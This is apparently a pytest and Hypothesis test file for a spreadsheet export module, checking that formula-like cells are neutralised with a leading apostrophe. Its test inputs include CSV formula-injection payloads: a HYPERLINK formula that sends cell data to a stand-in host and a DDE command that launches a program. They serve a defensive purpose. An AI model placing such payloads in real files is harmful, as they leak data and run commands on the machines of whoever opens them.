"""What a spreadsheet program gets of a file: the cells as they were, and none of them a formula."""

from __future__ import annotations

import csv
import datetime
import io
import unicodedata

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from plugin.reports.manager import spreadsheet

ANY = st.text(st.characters(codec="utf-8"), max_size=30)
BEGINNINGS = st.sampled_from(
    ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠", "﹢", "\u200b=", " =", "\ufeff@"]
)


def opened(content: bytes) -> list[list[str]]:
    assert content.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def written(*lines: list[spreadsheet.Cell]) -> bytes:
    return b"".join(spreadsheet.written(lines))


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("https://evil.example/?"&A1)',
        "+1+1",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        "\n=1",
        "＝1+1",
        "＋1",
        "－1",
        "＠SUM(A1)",
        "  =1",
        "\u200b=1",
        "\u2066=1",
    ],
)
def test_a_formula_is_a_text(text):
    assert spreadsheet.harmless(text) == f"'{text}"


@pytest.mark.parametrize("text", ["", "O'Neil-Smith, Zoë", "Ví Dụ", "李", "a=b", "5", "'quoted'", "100 %"])
def test_a_name_stays_as_it_is(text):
    assert spreadsheet.harmless(text) == text


@settings(max_examples=200, deadline=None)
@given(BEGINNINGS, ANY)
def test_nothing_that_begins_like_a_formula_gets_through(beginning, rest):
    [[cell]] = opened(written([beginning + rest]))
    assert cell == f"'{beginning}{rest}"


@settings(max_examples=200, deadline=None)
@given(st.lists(ANY, min_size=1, max_size=4))
@example(['a"b', "c,d", "e\r\nf", ""])
@example([";=1+1", '",=1+1', "\x00"])
def test_every_text_comes_back_in_its_own_cell(texts):
    [cells] = opened(written(texts))
    assert [cell.removeprefix("'") if was != cell else cell for cell, was in zip(cells, texts, strict=True)] == texts
    first = (unicodedata.normalize("NFKC", cell)[:1] for cell in cells)
    assert not [one for one in first if one in {"=", "+", "-", "@", "\t", "\r"}]


def test_days_and_numbers_are_what_every_program_reads():
    assert opened(written([datetime.date(2026, 7, 4), -2, None])) == [["2026-07-04", "-2", ""]]


def test_lines_end_as_spreadsheet_programs_write_them():
    assert written(["a"], ["b"]) == b'\xef\xbb\xbf"a"\r\n"b"\r\n'


def test_the_first_line_is_there_before_the_second_is_read():
    def lines():
        yield ["Student"]
        raise AssertionError("read too early")

    assert next(iter(spreadsheet.written(lines()))) == b'\xef\xbb\xbf"Student"\r\n'
